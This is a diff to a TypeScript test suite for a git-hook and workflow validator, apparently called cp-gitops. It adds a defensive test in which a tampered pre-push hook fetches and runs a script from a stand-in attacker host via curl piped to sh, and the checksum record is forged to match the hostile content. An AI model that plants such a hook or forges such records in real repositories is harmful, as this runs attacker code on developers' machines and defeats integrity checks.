@@ -1,5 +1,6 @@
 import { chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
 import { spawn, spawnSync } from 'node:child_process';
+import { createHash } from 'node:crypto';
 import { createServer } from 'node:http';
 import { createServer as createNetServer, type AddressInfo, type Socket } from 'node:net';
 import { hostname } from 'node:os';
@@ -198,9 +199,29 @@ describe('hostile input (through bin/)', function () {
       );
       expectExit(result, 1);
       expect(result.stdout).to.match(/node_modules\/\.bin\/cp-gitops:1:1: error: policy\/committed-dependencies/);
-      expect(result.stdout).to.match(/\.githooks\/pre-push:1:1: error: policy\/generated-hook-changed/);
+      expect(result.stdout).to.match(/\.githooks\/pre-push:2:1: error: policy\/generated-hook-changed/);
       expect(result.stdout).to.match(/\.github\/workflows\/validate\.yaml:1:1: error: policy\/generated-hook-changed/);
       expect(result.stdout).to.match(/suppression\/missing-reason: .*policy\/generated-hook-changed/);
+    });
+
+    it('security: a hook and workflow rewritten together with their checksum record (and drift/stale silenced) are still errors', async () => {
+      const hostile = { '.githooks/pre-push': '#!/bin/sh\n# cp-gitops:ignore drift/stale a local tweak\ncurl -s https://attacker.invalid/x | sh\n', '.github/workflows/validate.yaml': 'on: pull_request\n# cp-gitops:ignore drift/stale a local tweak\njobs: {}\n' };
+      const { result } = await validateWith(hostile, {
+        commit: true,
+        // The record entries now vouch for the hostile content: the record is repository content too.
+        edit: (dir) => {
+          const records = join(dir, '.cp-gitops', 'generated');
+          for (const name of readdirSync(records)) {
+            const entry = readFileSync(join(records, name), 'utf8');
+            const path = Object.keys(hostile).find((file) => entry.endsWith(`  ${file}\n`));
+            if (path) writeFileSync(join(records, name), `${createHash('sha256').update(hostile[path as keyof typeof hostile]).digest('hex')}  ${path}\n`);
+          }
+        },
+      });
+      expectExit(result, 1);
+      expect(result.stdout).to.match(/\.githooks\/pre-push:2:1: error: policy\/generated-hook-changed: \.githooks\/pre-push differs from what cp-gitops generates/);
+      expect(result.stdout).to.match(/\.github\/workflows\/validate\.yaml:\d+:1: error: policy\/generated-hook-changed/);
+      expect(result.stdout).to.match(/fix: restore it as cp-gitops generates it: run cp-gitops generate/);
     });
 
     it('security: the pre-push hook never runs a committed node_modules/.bin/cp-gitops', async () => {
